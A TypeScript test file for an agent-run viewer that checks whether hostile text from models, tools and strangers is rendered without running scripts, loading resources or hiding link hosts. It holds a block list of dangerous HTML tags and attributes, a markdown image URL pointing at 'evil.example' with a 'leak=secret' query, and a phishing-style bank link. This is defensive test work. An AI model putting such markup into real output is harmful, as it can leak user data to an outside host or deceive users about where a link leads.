// @vitest-environment jsdom
/** S58 and S59: text of models, tools and strangers runs nothing, calls nobody and hides no address. */
import { MantineProvider } from "@mantine/core";
import { render, screen } from "@testing-library/react";
import { type ReactNode, Suspense } from "react";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { startLanguages } from "@/app/i18n";
import { NO_USAGE, type StepView } from "@/domain/runs/run-view";
import { JsonBlock } from "@/features/runs/json-block";
import StepCalls from "@/features/runs/step-calls";
import { StepStream } from "@/features/runs/step-stream";
import { TextStore } from "@/realtime/text-store";
import { problemFrom } from "@/shared/lib/problem";
import { ErrorState } from "@/shared/ui/error-state";
import { Markdown } from "@/shared/ui/markdown";
import { theme } from "@/shared/ui/theme/theme";
import { HOSTILE_TEXTS } from "@/testing/hostile-texts";

const NEVER =
  "script,iframe,frame,object,embed,link,meta,base,form,style,img,image,video,audio,source,template,math,marquee,foreignObject";
const LOADING = ["src", "srcset", "poster", "background", "data", "srcdoc", "action", "ping"];
const PROTOCOLS = ["http:", "https:", "mailto:"];
const calls = vi.fn();

beforeEach(async () => {
  await startLanguages();
  calls.mockReset();
  vi.stubGlobal("fetch", calls);
  vi.stubGlobal(
    "Image",
    class {
      constructor() {
        calls("Image");
      }
    },
  );
  vi.spyOn(XMLHttpRequest.prototype, "open").mockImplementation(calls);
  navigator.sendBeacon = calls;
});
afterEach(() => vi.unstubAllGlobals());

async function draw(what: ReactNode): Promise<HTMLElement> {
  render(
    <MantineProvider theme={theme} env="test">
      <Suspense>
        <main>{what}</main>
      </Suspense>
    </MantineProvider>,
  );
  return await screen.findByRole("main", {}, { timeout: 20_000 });
}

/** Return what in a drawn page could run, load or mislead. */
function found(page: HTMLElement): string[] {
  const all = [...page.querySelectorAll("*")];
  const dangerous = [...page.querySelectorAll(NEVER)];
  const drawn = all.filter((one) => one.localName === "svg" && !one.matches(".tabler-icon"));
  const attributes = all.flatMap((one) =>
    [...one.attributes]
      .filter(({ name }) => /^on/i.test(name) || LOADING.includes(name) || name === "formaction")
      .map(({ name, value }) => `${one.localName} ${name}=${value}`),
  );
  const links = [...page.querySelectorAll("a")].flatMap((link) => wrong(link));
  return [...[...dangerous, ...drawn].map((one) => one.outerHTML), ...attributes, ...links];
}

function wrong(link: HTMLAnchorElement): string[] {
  const href = link.getAttribute("href");
  if (!href || !URL.canParse(href, location.href)) return []; // it leads nowhere
  const url = new URL(href, location.href);
  const rel = link.rel.split(" ");
  const isOpenlyElsewhere =
    url.host === location.host || !url.host || link.textContent?.includes(url.host);
  return [
    ...(PROTOCOLS.includes(url.protocol) ? [] : [`protocol of ${href}`]),
    ...(rel.includes("noopener") && rel.includes("noreferrer") ? [] : [`rel of ${href}`]),
    ...(isOpenlyElsewhere ? [] : [`the host of ${href} is not shown`]),
  ];
}

const STEP: StepView = {
  path: "a",
  kind: "agent",
  status: "failed",
  attempt: 1,
  agent: null,
  started_at: null,
  finished_at: null,
  usage: NO_USAGE,
  error: null,
  recovered: false,
  output: null,
  output_ref: null,
  waits_for: null,
  wake_at: null,
  approval_id: null,
};

function stream(text: string): ReactNode {
  const texts = new TextStore();
  texts.restart({ a: { exec: 1, channels: { thinking: text, tools: text, answer: text } } });
  return <StepStream texts={texts} step={{ ...STEP, error: { code: text, message: text } }} />;
}

const PLACES: Record<string, (text: string) => ReactNode> = {
  "a message": (text) => <Markdown text={text} />,
  "an output": (text) => <JsonBlock title={text} value={text} none="" />,
  "a result": (text) => <JsonBlock title="x" value={{ [text]: [text] }} none="" />,
  "the call of a tool": (text) => (
    <StepCalls
      calls={[
        {
          seq: 1,
          step: "a",
          at: "",
          kind: "tool",
          name: text,
          arguments_preview: text,
          usage: null,
          duration_ms: 1,
          replayed: false,
          run_id: null,
        },
      ]}
    />
  ),
  "what a step says": stream,
  "an error": (text) => (
    <ErrorState error={problemFrom(500, { title: text, detail: text, trace_id: text })} />
  ),
};

it("knows at least two hundred texts", () => {
  expect(new Set(HOSTILE_TEXTS).size).toBeGreaterThanOrEqual(200);
});

describe("S58 hostile text", () => {
  it.each(Object.keys(PLACES))(
    "runs nothing and calls nobody as %s",
    async (place) => {
      const page = await draw(
        HOSTILE_TEXTS.map((text, number) => (
          <section key={text} id={`text-${number}`}>
            {PLACES[place]?.(text)}
          </section>
        )),
      );
      const drawn = [...page.children] as HTMLElement[];
      const dangerous = drawn.map((one, number) => [HOSTILE_TEXTS[number], found(one)]);
      expect(dangerous.filter(([, what]) => what?.length)).toEqual([]);
      expect(calls).not.toHaveBeenCalled();
      expect("pwned" in globalThis).toBe(false);
    },
    60_000,
  );
});

describe("S59 addresses in text", () => {
  it("shows the host of a link beside words that say something else", async () => {
    const page = await draw(<Markdown text="[www.bank.example](https://evil.example/sign-in)" />);
    expect(page.textContent).toContain("evil.example");
  });

  it("shows the host once where the words are the address", async () => {
    const page = await draw(<Markdown text="<https://acme.example/terms>" />);
    expect(page.textContent).toBe("https://acme.example/terms");
  });

  it("makes a link of a picture and loads none", async () => {
    const page = await draw(<Markdown text="![a chart](https://evil.example/x.png?leak=secret)" />);
    expect(page.querySelector("img")).toBeNull();
    const link = page.querySelector("a");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.target).toBe("_blank");
    expect(page.textContent).toContain("evil.example");
  });
});
